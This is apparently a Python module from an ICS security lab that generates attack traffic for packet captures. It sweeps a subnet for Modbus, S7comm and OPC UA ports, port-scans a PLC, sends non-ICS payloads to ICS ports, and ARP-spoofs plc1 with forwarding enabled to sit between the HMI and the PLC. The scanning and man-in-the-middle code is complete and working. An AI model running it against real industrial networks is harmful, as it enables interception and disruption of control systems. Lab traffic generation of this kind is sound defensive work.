"""Network-level attacks from the rogue laptop: an ICS port sweep of the subnet, a port scan
of one PLC, non-ICS payloads on ICS ports, and ARP spoofing with forwarding (a man in the
middle between the HMI and plc1). Real sockets and the kernel's own ARP; the spoofed ARP
replies are sent with scapy. See pcaps/README.md.
"""

from __future__ import annotations

import asyncio
import contextlib
import time
from pathlib import Path
from typing import Any

from lab.roles import RoleArgs, role

#: the ICS ports the sweep tries on every address: Modbus/TCP, S7comm (ISO-TSAP), OPC UA
ICS_PORTS = (502, 102, 4840)
#: ports the scan of one PLC tries: common IT services and the well-known ICS ones
SCAN_PORTS = (
    (20, 21, 22, 23, 25, 53, 80, 81, 110, 111, 135, 139, 143, 161, 443, 445, 502, 515, 554)
    + (623, 789, 1089, 1090, 1091, 1433, 1911, 1962, 2222, 2404, 3306, 3389, 4000, 4840)
    + (5007, 5020, 5060, 5432, 5900, 8000, 8080, 8443, 9600, 10000, 18245, 20000, 20547)
    + (34962, 34963, 34964, 44818, 47808, 48898, 102)
)
IFACE = "eth0"
BROADCAST = "ff:ff:ff:ff:ff:ff"


def _sysctl(key: str, value: str) -> None:
    """Set a sysctl of this host's own namespace (net.* keys are per network namespace)."""
    Path("/proc/sys", *key.split(".")).write_text(value)


async def _connect(ip: str, port: int, timeout: float) -> str:
    """A full TCP connect, closed at once: "open", "closed" (RST) or "no answer"."""
    try:
        _, writer = await asyncio.wait_for(asyncio.open_connection(ip, port), timeout)
    except ConnectionRefusedError:
        return "closed"
    except (TimeoutError, OSError):
        return "no answer"
    writer.close()
    with contextlib.suppress(OSError):
        await writer.wait_closed()
    return "open"


async def _sweep(subnet: str, hosts: range, gap: float, timeout: float) -> str:
    """Every ICS port on every address of hosts, one address after the other gap s apart,
    the ports of an address at once (as a fast scanner does)."""

    async def one(ip: str) -> list[str]:
        return list(await asyncio.gather(*(_connect(ip, p, timeout) for p in ICS_PORTS)))

    tasks = []
    for n in hosts:
        tasks.append(asyncio.create_task(one(f"{subnet}.{n}")))
        await asyncio.sleep(gap)
    results = await asyncio.gather(*tasks)
    open_ = [
        f"{subnet}.{n}:{p}"
        for n, states in zip(hosts, results, strict=True)
        for p, state in zip(ICS_PORTS, states, strict=True)
        if state == "open"
    ]
    silent = sum(all(s == "no answer" for s in states) for states in results)
    return f"{len(hosts)} addresses x {len(ICS_PORTS)} ports: open {open_}; {silent} silent"


async def _port_scan(ip: str, gap: float, timeout: float) -> str:
    states = {}
    for port in SCAN_PORTS:
        states[port] = await _connect(ip, port, timeout)
        await asyncio.sleep(gap)
    open_ = [p for p, s in states.items() if s == "open"]
    return f"{ip}: {len(SCAN_PORTS)} ports, open {open_}"


async def _payload(ip: str, port: int, data: bytes, linger: float) -> str:
    """Write data to an ICS port and report what comes back before linger s or the close."""
    reader, writer = await asyncio.open_connection(ip, port)
    writer.write(data)
    await writer.drain()
    try:
        reply = await asyncio.wait_for(reader.read(1024), linger)
        answer = f"answered {len(reply)} bytes" if reply else "closed by the server"
    except TimeoutError:
        answer = "no answer"
    except ConnectionResetError:
        answer = "reset by the server"
    writer.close()
    with contextlib.suppress(OSError):
        await writer.wait_closed()
    return f"{ip}:{port} {answer}"


def _arp_reply(own_mac: str, claimed_ip: str, claimed_mac: str, to_ip: str, to_mac: str) -> Any:
    """An ARP reply from this host's port that tells to_ip: claimed_ip is at claimed_mac."""
    from scapy.layers.l2 import ARP, Ether

    return Ether(src=own_mac, dst=to_mac) / ARP(
        op=2, hwsrc=claimed_mac, psrc=claimed_ip, hwdst=to_mac, pdst=to_ip
    )


def _spoof(args: RoleArgs, rounds: int, period: float) -> str:
    """Claim plc1's address for this host: a gratuitous ARP reply to everyone, then replies to
    the HMI every period s, with IP forwarding on (and redirects off) so that the HMI's traffic
    for plc1 still arrives, through this host; then restore the HMI's entry, as an ARP
    spoofing tool does when it exits."""
    from scapy.sendrecv import sendp

    own, plc_ip, plc_mac = args["mac"], args["victim_ip"], args["victim_mac"]
    hmi_ip, hmi_mac = args["target_ip"], args["target_mac"]
    _sysctl("net.ipv4.ip_forward", "1")
    for scope in ("all", "default", IFACE):
        _sysctl(f"net.ipv4.conf.{scope}.send_redirects", "0")
    sendp(_arp_reply(own, plc_ip, own, plc_ip, BROADCAST), iface=IFACE, verbose=False)
    for _ in range(rounds):
        time.sleep(period)
        sendp(_arp_reply(own, plc_ip, own, hmi_ip, hmi_mac), iface=IFACE, verbose=False)
    time.sleep(period)
    for _ in range(3):
        sendp(_arp_reply(own, plc_ip, plc_mac, hmi_ip, hmi_mac), iface=IFACE, verbose=False)
        time.sleep(0.1)
    time.sleep(period)
    _sysctl("net.ipv4.ip_forward", "0")
    return f"{plc_ip} claimed {rounds + 1} times for {hmi_ip}, then restored to {plc_mac}"


@role("network-attacker")
def network_attacker(args: RoleArgs) -> None:
    """Sweep, scan, send non-ICS payloads to ICS ports, then ARP-spoof plc1 for the HMI."""
    duration = float(args["duration"])
    start = time.monotonic()

    def say(what: str) -> None:
        print(f"network-attacker: {time.monotonic() - start:5.2f} s {what}", flush=True)

    time.sleep(duration / 10)  # the HMI's normal polling comes first
    pause, subnet = duration / 30, args["subnet"]
    say("1 ICS sweep: ports 502, 102, 4840 on " + f"{subnet}.1-{args['last_host']}")
    hosts = range(1, int(args["last_host"]) + 1)
    say("  " + asyncio.run(_sweep(subnet, hosts, gap=0.02, timeout=1.0)))
    time.sleep(pause)
    say(f"2 port scan of {args['scan_ip']}: {len(SCAN_PORTS)} ports")
    say("  " + asyncio.run(_port_scan(args["scan_ip"], gap=0.01, timeout=1.0)))
    time.sleep(pause)
    say("3 non-ICS payloads on ICS ports")
    for ip, port, text in args["payloads"]:
        say("  " + asyncio.run(_payload(ip, int(port), text.encode(), linger=0.5)))
        time.sleep(pause / 2)
    time.sleep(pause)
    say(f"4 ARP spoofing: {args['victim_ip']} claimed for {args['target_ip']}, forwarding on")
    say("  " + _spoof(args, rounds=4, period=1.0))
    say("done")
